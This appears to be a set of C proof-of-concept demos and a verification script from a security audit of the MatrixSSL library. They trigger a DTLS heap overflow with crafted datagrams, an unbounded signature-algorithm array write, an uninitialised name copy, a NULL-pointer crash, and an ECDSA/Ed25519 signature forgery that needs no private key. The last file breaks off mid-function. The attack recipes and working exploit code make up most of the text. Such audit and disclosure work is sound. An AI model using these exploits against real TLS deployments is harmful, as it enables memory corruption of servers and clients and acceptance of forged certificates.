    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_3;
    if (matrixSslNewClientSession(&cli, keys, NULL, NULL, 0, certCb, "localhost",
            ext, NULL, &o) < 0) return 2;
    n = matrixSslGetOutdata(cli, &out);
    memcpy(buf, out, n);
    matrixSslSentData(cli, n);

    /* dirty small heap blocks, so that a name that is not copied shows */
    for (i = 0; i < 64; i++) { junk[i] = malloc(10); memset(junk[i], '#', 10); }
    for (i = 0; i < 64; i++) free(junk[i]);
    clearStack();
    rc = feed(srv, buf, n, 0);
    printf("server rc=%d, ClientHello carried server_name \"localhost\"\n", (int) rc);
    if (srv->expectedName == NULL)
    {
        printf("VIOLATION: server recorded no name at all\n");
        return 1;
    }
    hexdump("server's ssl->expectedName", (unsigned char *) srv->expectedName, 10);
    if (memcmp(srv->expectedName, "localhost", 10) != 0)
    {
        printf("VIOLATION: TLS 1.3 server did not copy the client's server_name: "
            "ssl->expectedName holds uninitialised heap bytes (uninitialised "
            "capacity 'copiedLen' given to psParseBufCopyN in tls13ParseServerName, "
            "tls13DecodeExt.c)\n");
        return 1;
    }
    printf("OK: server recorded the name the client sent\n");
    return 0;
}
