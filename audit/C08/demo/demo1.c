/*
    demo1: DTLS server, unauthenticated client, four datagrams ->
    heap buffer overflow WRITE with attacker-chosen length and content in
    parseSSLHandshake (matrixssl/sslDecode.c).

    Two handshake reassembly mechanisms share ssl->fragMessage / ssl->fragTotal:
      - the DTLS fragment reassembly (fragment_offset / fragment_length),
        whose bounds check trusts ssl->fragLenStored, and
      - the "non-DTLS" reassembly of a handshake message that spans records
        ("if ((uint32)(end - c) < hsLen)"), which is NOT guarded against DTLS.
    ssl->fragLenStored survives dtlsInitFrag(), and a message with
    message_seq 0 is never treated as "already seen".

    History:
      1. ClientHello (message_seq 0) sent in two DTLS fragments: completes,
         server answers HelloVerifyRequest.  Leaves fragLenStored = L,
         fragMsn = 0, fragMessage = NULL, fragTotal = 0.
      2. A datagram with an "unfragmented" ClientHello header (length 10,
         fragment_length 10) that carries only 2 body bytes: the non-DTLS
         path allocates fragMessage = malloc(10 + 12) and sets fragTotal = 22.
      3. A DTLS fragment, message_seq 0, length L, fragment_offset 0,
         fragment_length L-1: fragTotal != 0, so nothing is allocated; the
         check is against the stale fragLenStored = L; Memcpy() writes L-1
         attacker bytes into the 22 byte buffer.
 */
#include "common.h"
#include <malloc.h>

static int attack(void)
{
    sslKeys_t *keys;
    ssl_t *cli, *srv;
    unsigned char *out;
    int32 n, rc;
    unsigned char ch[2048], hs[2048], rec[2048], body[2048];
    int hl, rl, chLen, half, i;
    size_t usable;

    if (matrixSslOpen() < 0) return 2;
    keys = mkKeys();
    cli = mkClient(keys, SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS, NULL, NULL, 0);
    srv = mkServer(keys, SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS);

    /* A genuine ClientHello body, taken from a real client session */
    n = matrixDtlsGetOutdata(cli, &out);
    if (n < 26) { printf("no client hello\n"); return 2; }
    chLen = n - 25;
    memcpy(ch, out + 25, chLen);
    matrixDtlsSentData(cli, n);
    printf("genuine ClientHello body: %d bytes\n", chLen);

    /* 1. the ClientHello in two fragments, message_seq 0 */
    half = chLen / 2;
    hl = mkhs(hs, SSL_HS_CLIENT_HELLO, chLen, 0, 0, half, ch, half);
    rl = mkrec(rec, 22, 0, 0, hs, hl);
    rc = feed(srv, rec, rl, 0);
    printf("datagram 1 (fragment 0..%d): rc=%d\n", half, (int) rc);
    hl = mkhs(hs, SSL_HS_CLIENT_HELLO, chLen, 0, half, chLen - half,
            ch + half, chLen - half);
    rl = mkrec(rec, 22, 0, 1, hs, hl);
    rc = feed(srv, rec, rl, 0);
    printf("datagram 2 (fragment %d..%d): rc=%d (%s)\n", half, chLen, (int) rc,
        rc == MATRIXSSL_REQUEST_SEND ? "server answers, HelloVerifyRequest" : "?");
    while ((n = matrixDtlsGetOutdata(srv, &out)) > 0)
    {
        matrixDtlsSentData(srv, n);
    }
    printf("  server state: fragLenStored=%u fragTotal=%u fragMessage=%p fragMsn=%d\n",
        (unsigned) srv->fragLenStored, (unsigned) srv->fragTotal,
        (void *) srv->fragMessage, (int) srv->fragMsn);

    /* 2. "unfragmented" header, truncated body */
    memset(body, 0x41, sizeof(body));
    hl = mkhs(hs, SSL_HS_CLIENT_HELLO, 10, 1, 0, 10, body, 2);
    rl = mkrec(rec, 22, 0, 2, hs, hl);
    rc = feed(srv, rec, rl, 0);
    usable = srv->fragMessage ? malloc_usable_size(srv->fragMessage) : 0;
    printf("datagram 3 (length 10, 2 bytes present): rc=%d\n", (int) rc);
    printf("  server state: fragLenStored=%u fragTotal=%u fragMessage=%p "
        "(requested 22 bytes, malloc_usable_size %zu)\n",
        (unsigned) srv->fragLenStored, (unsigned) srv->fragTotal,
        (void *) srv->fragMessage, usable);
    if (srv->fragMessage == NULL)
    {
        printf("fragMessage not allocated: not vulnerable\n");
        return 0;
    }

    /* 3. DTLS fragment written into the small buffer */
    printf("datagram 4: fragment message_seq 0, offset 0, fragment_length %d "
        "(bytes 0x41) -> Memcpy(fragMessage + 0, c, %d) into the %zu byte block\n",
        chLen - 1, chLen - 1, usable);
    fflush(stdout);
    hl = mkhs(hs, SSL_HS_CLIENT_HELLO, chLen, 0, 0, chLen - 1, body, chLen - 1);
    rl = mkrec(rec, 22, 0, 3, hs, hl);
    rc = feed(srv, rec, rl, 0);
    printf("datagram 4: rc=%d\n", (int) rc);

    /* Only reached when no sanitizer stopped the process: look at the bytes
       behind the block */
    if (srv->fragMessage != NULL && (size_t) (chLen - 1) > usable)
    {
        int over = 0;
        for (i = (int) usable; i < chLen - 1; i++)
        {
            if (srv->fragMessage[i] == 0x41) over++;
        }
        if (over > 0)
        {
            printf("%d attacker bytes found behind the end of the block\n", over);
            fflush(stdout);
            return 3;
        }
    }
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    return 0;
}

int main(void)
{
    char why[256];
    int r = run_child(attack, 30, why, sizeof(why));

    if (r != 0)
    {
        printf("VIOLATION: DTLS server wrote a peer-supplied handshake fragment "
            "past the end of ssl->fragMessage (heap buffer overflow in "
            "parseSSLHandshake, sslDecode.c Memcpy(ssl->fragMessage + fragOffset, c, "
            "fragLen)) on 4 unauthenticated datagrams: %s\n", why);
        return 1;
    }
    printf("OK: the truncated message was refused / no write outside ssl->fragMessage\n");
    return 0;
}
