/* Common helpers for the audit demos: in-memory client / server sessions. */
#ifndef AUDIT_COMMON_H
#define AUDIT_COMMON_H

#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixsslImpl.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>

#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_CA.h"

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* accept anything: authentication is not what is tested */
}

static sslKeys_t *mkKeys(void)
{
    sslKeys_t *keys = NULL;
    if (matrixSslNewKeys(&keys, NULL) < 0)
    {
        printf("matrixSslNewKeys failed\n"); exit(2);
    }
    if (matrixSslLoadRsaKeysMem(keys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        printf("matrixSslLoadRsaKeysMem failed\n"); exit(2);
    }
    return keys;
}

static ssl_t *mkServer(sslKeys_t *keys, int32 versionFlag)
{
    sslSessOpts_t o;
    ssl_t *ssl = NULL;
    memset(&o, 0, sizeof(o));
    o.versionFlag = versionFlag;
    if (matrixSslNewServerSession(&ssl, keys, NULL, &o) < 0)
    {
        printf("matrixSslNewServerSession failed\n"); exit(2);
    }
    return ssl;
}

static ssl_t *mkClient(sslKeys_t *keys, int32 versionFlag, sslSessionId_t *sid,
        const psCipher16_t *suites, int nsuites)
{
    sslSessOpts_t o;
    ssl_t *ssl = NULL;
    int32 rc;
    memset(&o, 0, sizeof(o));
    o.versionFlag = versionFlag;
    rc = matrixSslNewClientSession(&ssl, keys, sid, suites, nsuites, certCb,
            "localhost", NULL, NULL, &o);
    if (rc < 0)
    {
        printf("matrixSslNewClientSession failed %d\n", (int) rc); exit(2);
    }
    return ssl;
}

/* Feed one buffer (TLS byte string or DTLS datagram) to a session and run
   the decode loop like an application would.  Returns the last rc. */
static int32 feed(ssl_t *ssl, const unsigned char *data, int32 len, int verbose)
{
    unsigned char *rb, *pt;
    uint32 ptLen;
    int32 rc, rblen;
    int iter = 0;

    rblen = matrixSslGetReadbufOfSize(ssl, len, &rb);
    if (rblen < len)
    {
        if (verbose) printf("  readbuf too small %d < %d\n", (int) rblen, (int) len);
        return -1000;
    }
    memcpy(rb, data, len);
    rc = matrixSslReceivedData(ssl, len, &pt, &ptLen);
    while (iter++ < 10000)
    {
        if (verbose) printf("  rc=%d\n", (int) rc);
        if (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT ||
            rc == MATRIXSSL_APP_DATA_COMPRESSED)
        {
            rc = matrixSslProcessedData(ssl, &pt, &ptLen);
            continue;
        }
        break;
    }
    return rc;
}

static void hexdump(const char *t, const unsigned char *b, int n)
{
    int i;
    printf("%s (%d):", t, n);
    for (i = 0; i < n && i < 64; i++) printf(" %02x", b[i]);
    printf("%s\n", n > 64 ? " ..." : "");
}


/* Run the attack in a child process so that a crash / sanitizer abort / hang
   of the library can be observed and reported by the parent.
   Returns 0 if the child returned normally with status 0,
   otherwise a description is written to 'why'. */
#include <sys/wait.h>
static int run_child(int (*fn)(void), int timeoutSec, char *why, size_t whyLen)
{
    pid_t pid;
    int st = 0, waited = 0;

    fflush(stdout); fflush(stderr);
    pid = fork();
    if (pid < 0) { perror("fork"); exit(2); }
    if (pid == 0)
    {
        int r = fn();
        fflush(stdout); fflush(stderr);
        _exit(r);
    }
    while (waited < timeoutSec * 10)
    {
        pid_t w = waitpid(pid, &st, WNOHANG);
        if (w == pid)
        {
            if (WIFSIGNALED(st))
            {
                snprintf(why, whyLen, "process killed by signal %d (%s)",
                    WTERMSIG(st), strsignal(WTERMSIG(st)));
                return 1;
            }
            if (WIFEXITED(st) && WEXITSTATUS(st) != 0)
            {
                snprintf(why, whyLen, "%s (exit status %d)",
                    WEXITSTATUS(st) == 86 ?
                    "process aborted by AddressSanitizer, report above" :
                    WEXITSTATUS(st) == 3 ?
                    "corruption observed directly in the session, see above" :
                    "process aborted", WEXITSTATUS(st));
                return 1;
            }
            return 0;
        }
        usleep(100000);
        waited++;
    }
    kill(pid, SIGKILL);
    waitpid(pid, &st, 0);
    snprintf(why, whyLen, "API call did not return within %d seconds (hang), "
        "process had to be killed", timeoutSec);
    return 2;
}

/* The demos are compiled with -fsanitize=address when available (the
   library archives themselves are the unmodified ones): the sanitizer's
   allocator and memcpy interceptor then observe heap overruns that happen
   inside the library. */
const char *__asan_default_options(void)
{
    return "exitcode=86:detect_leaks=0:abort_on_error=0";
}

/* DTLS 1.2 record / handshake header builders */
static int mkrec(unsigned char *o, int type, int epoch, int seq,
        const unsigned char *body, int blen)
{
    o[0] = type; o[1] = 0xfe; o[2] = 0xfd; o[3] = epoch >> 8; o[4] = epoch;
    o[5] = 0; o[6] = 0; o[7] = 0; o[8] = 0; o[9] = seq >> 8; o[10] = seq;
    o[11] = blen >> 8; o[12] = blen;
    memcpy(o + 13, body, blen);
    return 13 + blen;
}
static int mkhs(unsigned char *o, int type, int hsLen, int msn, int off,
        int flen, const unsigned char *body, int blen)
{
    o[0] = type; o[1] = hsLen >> 16; o[2] = hsLen >> 8; o[3] = hsLen;
    o[4] = msn >> 8; o[5] = msn;
    o[6] = off >> 16; o[7] = off >> 8; o[8] = off;
    o[9] = flen >> 16; o[10] = flen >> 8; o[11] = flen;
    if (blen) memcpy(o + 12, body, blen);
    return 12 + blen;
}

#endif
