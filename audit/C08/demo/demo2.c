/*
    demo2: TLS 1.2 client, CertificateRequest with more than
    TLS_MAX_SIGNATURE_ALGORITHMS (32) entries in supported_signature_algorithms
    -> parseCertificateRequest (matrixssl/hsDecode.c) stores every entry:

        while (len >= 2)
        {
            uint32_t val = HASH_SIG_MASK(c[0], c[1]);
            keySelect->peerSigAlgs[nSigAlg++] = val;      <-- no bound

    peerSigAlgs is uint16_t[32] inside ssl_t (ssl->sec.keySelect).  The list
    length is a 16 bit field of the peer, the message may be 64 KB: up to
    ~32000 entries are written, i.e. over the rest of ssl_t and far past the
    end of its heap block.

    The CertificateRequest is a plaintext handshake message that is parsed
    before the server's Finished is verified: a server the client talks to, or
    anybody who can modify the server's first flight, controls it.

    History: genuine TLS 1.2 handshake with a client-auth server; in the
    server's first flight (ServerHello, Certificate, ServerKeyExchange,
    CertificateRequest, ServerHelloDone) the CertificateRequest is replaced by
    one with N signature algorithms (default N = 64, argv[1]).

    With N = 64 the overrun stays inside ssl->sec.keySelect (it overwrites
    peerCertSigAlgsLen and peerCertSigAlgs[], which are "always 0" outside TLS
    1.3) so that it can be shown by inspecting the session.  With N >= ~2900
    it runs past the end of the ssl_t allocation.
 */
#include "common.h"
#include <stddef.h>

static int nalgs = 64;

static int attack(void)
{
    sslKeys_t *keys;
    ssl_t *cli, *srv;
    int32 rc, n;
    unsigned char *out;
    sslSessOpts_t o;
    static unsigned char flight[70000], hsbuf[70000], newfl[200000], msg[70000];
    int flen, hlen = 0, i, j, nl = 0, replaced = 0, bad = 0;
    uint16_t expect, *p;
    sslKeySelectInfo_t *ks;

    if (matrixSslOpen() < 0) return 2;
    keys = mkKeys();
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_2;
    /* a certificate callback makes the server request client authentication */
    if (matrixSslNewServerSession(&srv, keys, certCb, &o) < 0) return 2;
    cli = mkClient(keys, SSL_FLAGS_TLS_1_2, NULL, NULL, 0);

    n = matrixSslGetOutdata(cli, &out);
    memcpy(flight, out, n);
    matrixSslSentData(cli, n);
    rc = feed(srv, flight, n, 0);
    flen = matrixSslGetOutdata(srv, &out);
    if (flen <= 0) { printf("no server flight (rc=%d)\n", (int) rc); return 2; }
    memcpy(flight, out, flen);
    matrixSslSentData(srv, flen);
    printf("server's first flight: %d bytes\n", flen);

    /* handshake messages of the flight */
    for (i = 0; i + 5 <= flen; )
    {
        int l = (flight[i + 3] << 8) | flight[i + 4];
        if (flight[i] == 22)
        {
            memcpy(hsbuf + hlen, flight + i + 5, l);
            hlen += l;
        }
        i += 5 + l;
    }
    /* one record per message; CertificateRequest (13) replaced */
    for (i = 0; i + 4 <= hlen; )
    {
        int t = hsbuf[i];
        int l = (hsbuf[i + 1] << 16) | (hsbuf[i + 2] << 8) | hsbuf[i + 3];
        int ml, off;

        if (t == SSL_HS_CERTIFICATE_REQUEST)
        {
            int k, body = 1 + 2 + 2 + 2 * nalgs + 2;
            msg[0] = 13; msg[1] = body >> 16; msg[2] = body >> 8; msg[3] = body;
            k = 4;
            msg[k++] = 2; msg[k++] = 1; msg[k++] = 64;       /* certificate_types */
            msg[k++] = (2 * nalgs) >> 8; msg[k++] = (2 * nalgs);
            for (j = 0; j < nalgs; j++)
            {
                msg[k++] = 0x04; msg[k++] = 0x01;            /* sha256, rsa */
            }
            msg[k++] = 0; msg[k++] = 0;                      /* no CA names */
            ml = k;
            replaced = 1;
            printf("  CertificateRequest (%d bytes) replaced: %d signature algorithms, "
                "%d bytes\n", l + 4, nalgs, ml);
        }
        else
        {
            memcpy(msg, hsbuf + i, 4 + l);
            ml = 4 + l;
        }
        for (off = 0; off < ml; off += 16000)
        {
            int chunk = ml - off > 16000 ? 16000 : ml - off;
            newfl[nl++] = 22; newfl[nl++] = 3; newfl[nl++] = 3;
            newfl[nl++] = chunk >> 8; newfl[nl++] = chunk;
            memcpy(newfl + nl, msg + off, chunk);
            nl += chunk;
        }
        i += 4 + l;
    }
    if (!replaced) { printf("no CertificateRequest in flight\n"); return 2; }

    ks = &cli->sec.keySelect;
    printf("client: sizeof(ssl_t)=%zu, peerSigAlgs[%d] at offset %zu..%zu\n",
        sizeof(ssl_t), TLS_MAX_SIGNATURE_ALGORITHMS,
        offsetof(ssl_t, sec.keySelect.peerSigAlgs),
        offsetof(ssl_t, sec.keySelect.peerSigAlgs) + sizeof(ks->peerSigAlgs));
    printf("before: peerSigAlgsLen=%u peerCertSigAlgsLen=%u peerCertSigAlgs[0]=0x%04x\n",
        ks->peerSigAlgsLen, ks->peerCertSigAlgsLen, ks->peerCertSigAlgs[0]);
    fflush(stdout);

    rc = feed(cli, newfl, nl, 0);

    expect = (uint16_t) HASH_SIG_MASK(0x04, 0x01);
    printf("after (rc=%d): peerSigAlgsLen=%u peerCertSigAlgsLen=%u peerCertSigAlgs[0]=0x%04x\n",
        (int) rc, ks->peerSigAlgsLen, ks->peerCertSigAlgsLen, ks->peerCertSigAlgs[0]);
    /* entries [32 .. N) lie behind the array */
    p = ks->peerSigAlgs;
    for (j = TLS_MAX_SIGNATURE_ALGORITHMS;
         j < nalgs && (unsigned char *) &p[j + 1] <= (unsigned char *) cli + sizeof(ssl_t);
         j++)
    {
        if (*(volatile uint16_t *) &p[j] == expect) bad++;
    }
    printf("%d uint16 slots behind peerSigAlgs[%d] now hold 0x%04x = "
        "HASH_SIG_MASK(sha256, rsa) taken from the peer's list\n",
        bad, TLS_MAX_SIGNATURE_ALGORITHMS, expect);
    fflush(stdout);
    if (ks->peerSigAlgsLen > TLS_MAX_SIGNATURE_ALGORITHMS && bad > 0)
    {
        return 3;
    }
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    return 0;
}

int main(int argc, char **argv)
{
    char why[256];
    int r;

    if (argc > 1) nalgs = atoi(argv[1]);
    if (nalgs < 1 || nalgs > 32000) nalgs = 64;
    r = run_child(attack, 60, why, sizeof(why));
    if (r != 0)
    {
        printf("VIOLATION: TLS 1.2 client wrote the peer's %d supported_signature_"
            "algorithms of a CertificateRequest into uint16_t peerSigAlgs[%d] "
            "(parseCertificateRequest, hsDecode.c): write outside the object, "
            "adjacent ssl_t members overwritten with peer-chosen values: %s\n",
            nalgs, TLS_MAX_SIGNATURE_ALGORITHMS, why);
        return 1;
    }
    printf("OK: at most TLS_MAX_SIGNATURE_ALGORITHMS entries stored, neighbours untouched\n");
    return 0;
}
