#!/bin/sh
# usage: verify.sh <name> <demo command...>   (patch already applied in the worktree)
W=/tmp/seed-C08
N=$1; shift
L=$W/audit-out/fix/verify_$N.log
: > $L
cd $W && make -j4 >> $L 2>&1; echo "make exit=$?" | tee -a $L
cd $W/audit-out/demo && ./build.sh >> $L 2>&1; echo "demo build exit=$?" | tee -a $L
echo "--- demo: $*" | tee -a $L
"$@" > $L.demo 2>&1; echo "demo exit=$?" | tee -a $L
grep "^VIOLATION\|^OK" $L.demo | tee -a $L
./control > $L.control 2>&1; echo "control exit=$? : $(tail -1 $L.control)" | tee -a $L
for t in algorithmTest eccTest rsaTest hmacTest; do (cd $W/crypto/test && ./$t >> $L.crypto 2>&1; echo "$t exit=$?") | tee -a $L; done
(cd $W/matrixssl/test && ./sslTest > $L.sslTest 2>&1; echo "sslTest exit=$? : $(tail -2 $L.sslTest | head -1)") | tee -a $L
