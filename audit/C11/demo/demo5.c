/*
 * demo5 (side finding, not one of the four): psX509AuthenticateCert() writes
 * through its foundIssuer argument unconditionally; a caller that does not
 * need the issuer and passes NULL (matrixValidateCerts() forwards its own
 * caller's pointer) crashes at the end of an otherwise successful validation.
 */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/wait.h>
#include "crypto/cryptoApi.h"

int main(void)
{
    psX509Cert_t *ca = NULL;
    pid_t pid;
    int st = 0;

    setvbuf(stdout, NULL, _IONBF, 0);
    psCryptoOpen(PSCRYPTO_CONFIG);
    if (psX509ParseCertFile(NULL, "/tmp/seed-C11/testkeys/EC/256_EC_CA.pem", &ca, 0) < 0 || ca == NULL)
    {
        printf("cannot parse the test CA\n");
        return 2;
    }
    pid = fork();
    if (pid == 0)
    {
        int32 rc = psX509AuthenticateCert(NULL, ca, ca, NULL, NULL, NULL);
        _exit(rc == PS_SUCCESS && ca->authStatus == PS_CERT_AUTH_PASS ? 0 : 3);
    }
    waitpid(pid, &st, 0);
    if (WIFSIGNALED(st))
    {
        printf("VIOLATION: psX509AuthenticateCert(cert, issuer, foundIssuer=NULL) died with signal %d\n", WTERMSIG(st));
        return 1;
    }
    if (WEXITSTATUS(st) != 0)
    {
        printf("CONTROL FAILED: self-signed test CA did not authenticate (child exit %d)\n", WEXITSTATUS(st));
        return 2;
    }
    printf("OK: psX509AuthenticateCert works without a foundIssuer pointer\n");
    return 0;
}
