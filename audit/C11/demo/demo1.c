/*
 * demo1: psVerify()/psVerifySig() with an ECDSA (PS_ECC) key and
 *        signatureAlgorithm == OID_ED25519_KEY_ALG.
 *
 * psVerify() decides "no pre-hash" from the signature algorithm id alone
 * (Ed25519 signs the message itself), psVerifySig() then dispatches on the
 * KEY type alone and hands the raw message to psEccDsaVerify(), which
 * silently truncates it to the curve size and uses those bytes as the ECDSA
 * "digest" e.  Nothing checks that the algorithm id fits the key.
 *
 *  (a) keyless forgery: ECDSA over a freely chosen e (no hash) is
 *      existentially forgeable.  With only the victim's PUBLIC key Q we pick
 *      u1,u2, R = u1*G + u2*Q, r = R.x mod n, s = r/u2, e = u1*s and present
 *      the message  M = e || <any attacker text>.  psVerify(M, sig, Q,
 *      Ed25519) says "valid".  The private key was never used; the text
 *      after the first 32 bytes is not covered by the signature at all.
 *
 *  (b) the same through X.509: psX509AuthenticateCert() passes the issuer's
 *      ECDSA key and subject->sigAlgorithm == Ed25519 into psVerifySig().
 *      A certificate labelled "Ed25519" under a P-256 CA is authenticated by
 *      an ECDSA check of the first 32 bytes of its TBSCertificate; subject
 *      name and public key can be replaced afterwards and the certificate
 *      still authenticates.
 */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include "crypto/cryptoApi.h"
#include <openssl/ec.h>
#include <openssl/ecdsa.h>
#include <openssl/bn.h>
#include <openssl/evp.h>
#include <openssl/sha.h>
#include <openssl/x509.h>
#include <openssl/x509v3.h>
#include <openssl/obj_mac.h>
#include <openssl/rand.h>

static int violations = 0;
static int controlFailures = 0;

static int der_sig(const BIGNUM *r, const BIGNUM *s, unsigned char *out)
{
    ECDSA_SIG *sg = ECDSA_SIG_new();
    unsigned char *p = out;
    int n;
    ECDSA_SIG_set0(sg, BN_dup(r), BN_dup(s));
    n = i2d_ECDSA_SIG(sg, &p);
    ECDSA_SIG_free(sg);
    return n;
}

static void part_a(void)
{
    EC_GROUP *g = EC_GROUP_new_by_curve_name(NID_X9_62_prime256v1);
    BN_CTX *ctx = BN_CTX_new();
    EC_KEY *victim = EC_KEY_new();
    const EC_POINT *Q;
    EC_POINT *R = EC_POINT_new(g);
    BIGNUM *n = BN_new(), *u1 = BN_new(), *u2 = BN_new(), *r = BN_new(), *s = BN_new(),
           *e = BN_new(), *x = BN_new(), *y = BN_new(), *t = BN_new();
    unsigned char pub[80], sig[80], msg[200], dig[32];
    const char *text = " -- pay 1,000,000 EUR to the attacker; this text is not covered by anything";
    int publen, siglen, msglen, rc;
    const psEccCurve_t *curve;
    psPubKey_t key;
    psBool_t res;

    EC_KEY_set_group(victim, g);
    EC_KEY_generate_key(victim);          /* the private half is never used below */
    Q = EC_KEY_get0_public_key(victim);
    EC_GROUP_get_order(g, n, ctx);

    /* forge */
    do
    {
        BN_rand_range(u1, n);
        BN_rand_range(u2, n);
    } while (BN_is_zero(u1) || BN_is_zero(u2));
    EC_POINT_mul(g, R, u1, Q, u2, ctx);                /* R = u1*G + u2*Q */
    EC_POINT_get_affine_coordinates(g, R, x, y, ctx);
    BN_nnmod(r, x, n, ctx);
    BN_mod_inverse(t, u2, n, ctx);
    BN_mod_mul(s, r, t, n, ctx);                       /* s = r/u2 */
    BN_mod_mul(e, u1, s, n, ctx);                      /* e = u1*s */
    BN_bn2binpad(e, msg, 32);
    memcpy(msg + 32, text, strlen(text));
    msglen = 32 + strlen(text);
    siglen = der_sig(r, s, sig);

    /* victim's public key into the library */
    publen = EC_POINT_point2oct(g, Q, POINT_CONVERSION_UNCOMPRESSED, pub, sizeof(pub), ctx);
    getEccParamByName("secp256r1", &curve);
    memset(&key, 0, sizeof(key));
    psInitPubKey(NULL, &key, PS_ECC);
    rc = psEccX963ImportKey(NULL, pub, publen, &key.key.ecc, curve);
    if (rc < 0)
    {
        printf("import failed %d\n", rc);
        exit(2);
    }
    key.type = PS_ECC;
    key.keysize = 64;

    /* control: as an ECDSA-SHA256 signature of msg it is (of course) invalid */
    res = PS_FALSE;
    rc = psVerify(NULL, msg, msglen, sig, siglen, &key, OID_SHA256_ECDSA_SIG, &res, NULL);
    printf("(a) control  psVerify(ECC key, OID_SHA256_ECDSA_SIG): rc=%d result=%d\n", rc, res);
    SHA256(msg, msglen, dig);
    printf("(a) control  OpenSSL ECDSA_verify(SHA256(msg)): %d\n",
        ECDSA_verify(0, dig, 32, sig, siglen, victim));

    /* honest controls: a genuine ECDSA-SHA256 signature under the ECC key, and a
       genuine Ed25519 signature under an Ed25519 key, must keep verifying */
    {
        unsigned char hsig[80], esk[32], epk[32], esig[64];
        unsigned int hsiglen;
        size_t el = 64, pl = 32;
        psPubKey_t ekey;
        EVP_PKEY *ep;
        EVP_MD_CTX *mc;

        ECDSA_sign(0, dig, 32, hsig, &hsiglen, victim);
        res = PS_FALSE;
        rc = psVerify(NULL, msg, msglen, hsig, hsiglen, &key, OID_SHA256_ECDSA_SIG, &res, NULL);
        printf("(a) honest   genuine ECDSA-SHA256 sig, psVerify(ECC key, OID_SHA256_ECDSA_SIG): rc=%d result=%d\n", rc, res);
        if (rc != PS_SUCCESS || res != PS_TRUE)
        {
            printf("CONTROL FAILED: honest ECDSA verification\n");
            controlFailures++;
        }
        RAND_bytes(esk, 32);
        ep = EVP_PKEY_new_raw_private_key(EVP_PKEY_ED25519, NULL, esk, 32);
        EVP_PKEY_get_raw_public_key(ep, epk, &pl);
        mc = EVP_MD_CTX_new();
        EVP_DigestSignInit(mc, NULL, NULL, NULL, ep);
        EVP_DigestSign(mc, esig, &el, msg, msglen);
        memset(&ekey, 0, sizeof(ekey));
        psInitPubKey(NULL, &ekey, PS_ED25519);
        memcpy(ekey.key.ed25519.pub, epk, 32);
        ekey.key.ed25519.havePub = PS_TRUE;
        ekey.type = PS_ED25519;
        res = PS_FALSE;
        rc = psVerify(NULL, msg, msglen, esig, 64, &ekey, OID_ED25519_KEY_ALG, &res, NULL);
        printf("(a) honest   genuine Ed25519 sig, psVerify(Ed25519 key, OID_ED25519_KEY_ALG):   rc=%d result=%d\n", rc, res);
        if (rc != PS_SUCCESS || res != PS_TRUE)
        {
            printf("CONTROL FAILED: honest Ed25519 verification\n");
            controlFailures++;
        }
    }

    res = PS_FALSE;
    rc = psVerify(NULL, msg, msglen, sig, siglen, &key, OID_ED25519_KEY_ALG, &res, NULL);
    printf("(a) attack   psVerify(ECC key, OID_ED25519_KEY_ALG):  rc=%d result=%d\n", rc, res);
    if (rc == PS_SUCCESS && res == PS_TRUE)
    {
        printf("VIOLATION: psVerify accepted a signature forged WITHOUT the private key "
               "(P-256 key, signatureAlgorithm=Ed25519): message of %d bytes, only its first 32 "
               "are looked at, as a raw ECDSA digest\n", msglen);
        violations++;
    }
    /* any other tail verifies too */
    msg[40] ^= 0x55;
    msg[msglen - 1] ^= 0x55;
    res = PS_FALSE;
    rc = psVerify(NULL, msg, msglen, sig, siglen, &key, OID_ED25519_KEY_ALG, &res, NULL);
    printf("(a) attack   same signature, message tail altered:    rc=%d result=%d\n", rc, res);
    if (rc == PS_SUCCESS && res == PS_TRUE)
    {
        printf("VIOLATION: the same signature is accepted for a different message\n");
        violations++;
    }
    psClearPubKey(&key);
}

/* Build CA (P-256, self-signed ecdsa-with-SHA256) and a leaf labelled Ed25519 */
static void part_b(void)
{
    EC_KEY *caec = EC_KEY_new_by_curve_name(NID_X9_62_prime256v1);
    EC_KEY *leafec = EC_KEY_new_by_curve_name(NID_X9_62_prime256v1);
    EC_KEY *evilec = EC_KEY_new_by_curve_name(NID_X9_62_prime256v1);
    EVP_PKEY *capk = EVP_PKEY_new(), *leafpk = EVP_PKEY_new(), *evilpk = EVP_PKEY_new();
    X509 *ca = X509_new(), *leaf = X509_new();
    X509_NAME *nm;
    X509_EXTENSION *ex;
    X509V3_CTX v3;
    unsigned char *cader = NULL, *tbs = NULL, *leafder = NULL, *leaf2der = NULL;
    int caderlen, tbslen, leafderlen, leaf2derlen, rc, i;
    ECDSA_SIG *sg;
    unsigned char sigder[80], *sp;
    int sigderlen;
    X509_ALGOR *alg;
    const ASN1_BIT_STRING *csig;
    const X509_ALGOR *calg;
    psX509Cert_t *mca = NULL, *mleaf = NULL, *mleaf2 = NULL, *found = NULL;

    EC_KEY_set_asn1_flag(caec, OPENSSL_EC_NAMED_CURVE);
    EC_KEY_set_asn1_flag(leafec, OPENSSL_EC_NAMED_CURVE);
    EC_KEY_set_asn1_flag(evilec, OPENSSL_EC_NAMED_CURVE);
    EC_KEY_generate_key(caec); EC_KEY_generate_key(leafec); EC_KEY_generate_key(evilec);
    EVP_PKEY_set1_EC_KEY(capk, caec); EVP_PKEY_set1_EC_KEY(leafpk, leafec); EVP_PKEY_set1_EC_KEY(evilpk, evilec);

    /* CA */
    X509_set_version(ca, 2);
    ASN1_INTEGER_set(X509_get_serialNumber(ca), 1);
